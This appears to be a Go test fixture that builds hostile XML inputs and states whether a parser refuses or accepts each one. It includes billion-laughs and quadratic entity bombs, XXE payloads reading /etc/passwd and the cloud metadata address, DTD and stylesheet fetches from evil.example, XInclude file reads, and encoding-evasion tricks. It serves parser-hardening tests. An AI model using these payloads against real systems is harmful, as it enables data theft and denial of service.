package hostile

import (
	"encoding/binary"
	"fmt"
	"strconv"
	"strings"
)

// Markup is XML that grows, fetches or nests without end. A document type declaration is refused whatever stands in it: without one there are
// no entities to expand or to fetch.
func Markup() []Case {
	t := &table{group: "xml"}
	t.doctypes()
	t.shapes()
	return t.cases
}

// billion is the classic: ten levels of ten references.
func billion() []byte {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">`)
	for i := range 10 {
		fmt.Fprintf(&b, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	b.WriteString("]><lolz>&l10;</lolz>")
	return []byte(b.String())
}

func (t *table) doctypes() {
	const why = "document type declarations are not taken"
	t.add(Damaged, "billion laughs", xml, why, billion)
	t.add(Damaged, "billion laughs in UTF-16", xml, why, func() []byte { return wide(string(billion()), binary.LittleEndian, true) })
	t.add(Mismatch, "billion laughs as text", plain, "an XML declaration says it is XML", billion)
	t.add(Damaged, "quadratic blowup", xml, why, func() []byte {
		return join(`<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "`, strings.Repeat("a", 100_000), `">]><b>`, strings.Repeat("&a;", 100_000), "</b>")
	})
	for _, d := range [][2]string{
		{"external entity, file", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`},
		{"external entity, web", `<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>`},
		{"external entity, public", `<!DOCTYPE a [<!ENTITY x PUBLIC "-//X" "http://evil.example/x">]>`},
		{"parameter entity", `<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;%x;]>`},
		{"external subset", `<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">`},
		{"empty DOCTYPE", `<!DOCTYPE a>`},
		{"DOCTYPE in small", `<!doctype a>`},
		{"DOCTYPE after a comment", `<!-- x --><?p?><!DOCTYPE a []>`},
		{"entity without DOCTYPE", ``},
	} {
		t.str(Damaged, d[0], xml, why, `<?xml version="1.0" standalone="no"?>`+d[1]+"<a>&x;</a>")
	}
	t.str(Damaged, "DOCTYPE inside the root", xml, "it may not stand there either", `<a><!DOCTYPE a></a>`)
}

func (t *table) shapes() {
	const million = 1_000_000
	t.add(Damaged, "a million levels", xml, "deeper than any reader's stack should go", func() []byte {
		return join(strings.Repeat("<a>", million), strings.Repeat("</a>", million))
	})
	t.add(Damaged, "a million open elements", xml, "nested without end and cut off", func() []byte { return join(strings.Repeat("<a>", million)) })
	t.add(Damaged, "300 levels", xml, "deeper than 256", func() []byte { return join(strings.Repeat("<a>", 300), strings.Repeat("</a>", 300)) })
	t.add(Damaged, "100,000 attributes", xml, "more than 256 in one element", func() []byte {
		b := []byte("<a")
		for i := range 100_000 {
			b = append(strconv.AppendInt(append(b, " a"...), int64(i), 10), `=""`...)
		}
		return append(b, "/>"...)
	})
	t.add(Damaged, "an attribute's name of a million letters", xml, "longer than 256", func() []byte { return join("<a ", strings.Repeat("n", million), `=""/>`) })
	t.add(Accept, "an attribute's value of a million letters", xml, "well-formed, and costs nothing", func() []byte { return join(`<a b="`, strings.Repeat("v", million), `"/>`) })
	t.add(Accept, "200,000 siblings", xml, "well-formed, and costs nothing", func() []byte { return join("<a>", strings.Repeat("<b/>", 200_000), "</a>") })
	t.add(Accept, "200,000 references", xml, "character references expand to one character each", func() []byte { return join("<a>", strings.Repeat("&#65;", 200_000), "</a>") })
	t.add(Accept, "a comment of 200,000 dashes apart", xml, "well-formed, and costs nothing", func() []byte { return join("<a><!--", strings.Repeat("- ", 200_000), "--></a>") })
	t.str(Accept, "stylesheet", xml, "CDA documents name one; nobody here follows it", `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>`)
	t.str(Accept, "XInclude", xml, "well-formed XML; nobody here follows it", `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>`)
	t.str(Accept, "schema location", xml, "well-formed XML; nobody here follows it", `<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://evil.example/x.xsd"/>`)
	t.str(Damaged, "reference to NUL", xml, "XML has no NUL", "<a>&#0;</a>")
	t.str(Damaged, "reference beyond Unicode", xml, "there is no such character", "<a>&#x110000;</a>")
	t.str(Damaged, "UTF-7", xml, "an encoding that hides markup from whoever does not know it", `<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>`)
	t.str(Damaged, "EBCDIC", xml, "an encoding that hides markup from whoever does not know it", `<?xml version="1.0" encoding="cp037"?><a/>`)
	t.str(Damaged, "overlong UTF-8", xml, "another spelling of < is none", "<a>\xc0\xbcb\xc0\xbe</a>")
	t.str(Damaged, "two roots", xml, "not well-formed", "<a/><b/>")
	t.str(Damaged, "NUL behind", xml, "not well-formed", "<a/>\x00")
	t.str(NotAllowed, "XSLT as XSLT", "application/xslt+xml", "none of the nine", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`)
}
